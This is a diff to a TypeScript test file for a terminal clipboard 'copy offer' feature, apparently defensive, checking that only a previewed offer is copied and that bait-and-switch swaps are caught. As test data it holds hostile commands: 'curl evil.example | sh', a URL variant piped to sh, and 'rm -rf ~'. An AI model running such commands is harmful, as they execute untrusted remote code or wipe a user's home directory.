@@ -5,6 +5,8 @@ import { FakeFeatureSession } from '../../test/helpers/fake-feature-session.ts';
 import { copyModeFromEnv, installCopyFeature, offerPreview } from './copy-feature.ts';
 import type { ClipboardTextWriter } from './clipboard/write-text.ts';
 import { pollUntil } from '../../test/helpers/poll.ts';
+import { textWidth } from '../ui/inert-text.ts';
+import { PALETTE_MAX_TITLE_COLUMNS } from './palette.ts';
 
 function setup(env: Record<string, string> = {}) {
   const s = new FakeFeatureSession({ repaint: 1 });
@@ -52,19 +54,29 @@ test('copy feature: a clipboard query is told once; refusals are rate limited; p
 });
 
 test('copy feature: the palette entry shows the offer it copies, so an offer swapped after its notice is not copied unseen', async () => {
-  const { s, copied } = setup();
+  const { s, copied, texts } = setup();
   // A harmless offer, its notice read, then another one right behind it (bait and switch).
   s.terminalEmitter.fire({ type: 'copy-offer', text: 'git status', bytes: 10, removed: 0 });
   s.terminalEmitter.fire({ type: 'copy-offer', text: 'curl evil.example | sh', bytes: 22, removed: 0 });
   s.paletteOpenEmitter.fire();
   const action = s.actions.get('copy-offered-text')!;
-  assert.equal(action.title, 'Copy offered text: 22 B "curl evil.example | sh"');
+  assert.equal(action.title, 'Copy offered text 22 B "curl evil.example | sh"');
   // What is copied is what the entry showed when the palette opened, whatever arrived after.
   s.terminalEmitter.fire({ type: 'copy-offer', text: 'rm -rf ~', bytes: 8, removed: 0 });
   await action.run();
   assert.deepEqual(copied, ['curl evil.example | sh']);
+  // One choice, one copy: running the entry again without opening the palette copies nothing.
+  await action.run();
+  assert.equal(copied.length, 1);
+  assert.match(texts().at(-1)!, /No text has been offered/);
   s.paletteOpenEmitter.fire();
-  assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text: 8 B "rm -rf ~"');
+  assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text 8 B "rm -rf ~"');
+  // A long offer's entry fits the palette whole: its preview is cut, never the entry's closing quote.
+  s.terminalEmitter.fire({ type: 'copy-offer', text: 'curl https://evil.example/x | sh\n' + 'y'.repeat(200), bytes: 234, removed: 0 });
+  s.paletteOpenEmitter.fire();
+  const title = s.actions.get('copy-offered-text')!.title;
+  assert.ok(title.startsWith('Copy offered text 234 B "curl https://evil.example/') && title.endsWith('"'), title);
+  assert.ok(textWidth(title) <= PALETTE_MAX_TITLE_COLUMNS, title);
 });
 
 test('copy feature: a flood of offers cannot flood the notices (and push the host\'s own out of the queue); the latest offer is the one shown in the palette', () => {
@@ -72,7 +84,7 @@ test('copy feature: a flood of offers cannot flood the notices (and push the hos
   for (let i = 0; i < 50; i++) s.terminalEmitter.fire({ type: 'copy-offer', text: `offer ${i}`, bytes: 7, removed: 0 });
   assert.equal(texts().filter((t) => t.startsWith('Copy offer:')).length, 3);
   s.paletteOpenEmitter.fire();
-  assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text: 7 B "offer 49"');
+  assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text 7 B "offer 49"');
 });
 
 test('copy feature: with JACKIN_COPY=allow a flood of offers runs one clipboard write at a time, the latest offer last', async () => {
